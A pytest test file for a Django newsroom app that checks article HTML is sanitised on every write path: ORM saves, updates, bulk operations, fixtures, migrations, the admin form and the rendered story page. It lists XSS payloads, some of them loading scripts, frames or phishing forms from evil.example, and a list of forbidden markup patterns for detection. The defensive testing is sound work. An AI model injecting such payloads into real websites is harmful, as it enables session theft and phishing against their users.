"""The body is sanitised on every write path, not only in the admin form."""

import json

import pytest
from django.core.management import call_command
from django.db import connection
from django.db.migrations.executor import MigrationExecutor
from django.urls import reverse

from articles.html import sanitize_html
from articles.models import Article
from tests.articles.admin_data import article_post
from tests.factories import make_article, make_user

pytestmark = pytest.mark.django_db

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    '<p onclick="alert(1)">click</p>',
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href="&#106;avascript:alert(1)">link</a>',
    '<a href=" javascript:alert(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<style>body { display: none }</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]
FORBIDDEN = [
    "<script",
    "onerror",
    "onclick",
    "onload",
    "ontoggle",
    "javascript:",
    "vbscript:",
    "data:text",
    "<iframe",
    "<svg",
    "<style",
    "style=",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<meta",
    "<base",
    "<math",
    "<img",
]
BENIGN = (
    "<h2>Heading</h2><p>Keep <strong>bold</strong>, <em>italic</em> and "
    '<a href="https://example.org/report">a link</a>.</p><ul><li>one</li></ul>'
)


def assert_clean(html):
    lowered = html.lower()
    for needle in FORBIDDEN:
        assert needle not in lowered, f"{needle!r} survived in {html!r}"


def payload(hostile):
    return f"<p>Before.</p>{hostile}<p>After.</p>"


def stored_body(article):
    return Article.objects.values_list("body", flat=True).get(pk=article.pk)


def test_sanitizer_keeps_what_the_editor_makes():
    cleaned = sanitize_html(BENIGN)
    for fragment in [
        "<h2>Heading</h2>",
        "<strong>bold</strong>",
        "<em>italic</em>",
        'href="https://example.org/report"',
        "<li>one</li>",
    ]:
        assert fragment in cleaned


@pytest.mark.parametrize("hostile", HOSTILE)
def test_orm_create_and_save(hostile):
    article = make_article(body=payload(hostile))
    assert_clean(article.body)
    assert_clean(stored_body(article))
    assert "Before." in stored_body(article) and "After." in stored_body(article)

    article.body = payload(hostile)
    article.save()
    assert_clean(stored_body(article))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_queryset_update(hostile):
    article = make_article()
    Article.objects.filter(pk=article.pk).update(body=payload(hostile))
    assert_clean(stored_body(article))


def test_bulk_create_and_bulk_update():
    hostile = "".join(HOSTILE)
    [created] = Article.objects.bulk_create(
        [Article(headline="Bulk", slug="bulk", body=payload(hostile))]
    )
    assert_clean(stored_body(created))

    article = make_article()
    article.body = payload(hostile)
    Article.objects.bulk_update([article], ["body"])
    assert_clean(stored_body(article))


def test_fixture_loading(tmp_path):
    fixture = tmp_path / "hostile.json"
    fixture.write_text(
        json.dumps(
            [
                {
                    "model": "articles.article",
                    "pk": 9001,
                    "fields": {
                        "headline": "From a fixture",
                        "slug": "from-a-fixture",
                        "body": payload("".join(HOSTILE)),
                        "status": "draft",
                        "created_at": "2024-01-01T00:00:00Z",
                        "updated_at": "2024-01-01T00:00:00Z",
                    },
                }
            ]
        )
    )
    call_command("loaddata", str(fixture), verbosity=0)
    assert_clean(Article.objects.get(pk=9001).body)


def test_data_migration_models_sanitise_too():
    executor = MigrationExecutor(connection)
    state = executor.loader.project_state(("articles", "0002_newsroom_groups"))
    HistoricalArticle = state.apps.get_model("articles", "Article")

    article = HistoricalArticle.objects.create(
        headline="Migrated", slug="migrated", body=payload("".join(HOSTILE))
    )
    assert_clean(Article.objects.get(pk=article.pk).body)


@pytest.mark.parametrize("hostile", HOSTILE[:8])
def test_admin_form(client, hostile):
    client.force_login(make_user("journalist"))
    response = client.post(
        reverse("admin:articles_article_add"), article_post(body=payload(hostile))
    )
    assert response.status_code == 302, response.context["adminform"].form.errors
    assert_clean(Article.objects.get().body)


def test_story_page_never_serves_hostile_markup(client):
    article = make_article(body=payload("".join(HOSTILE)))
    html = client.get(article.get_absolute_url()).content.decode()
    body = html.split('class="story__body')[1].split("</article>")[0]
    assert_clean(body)
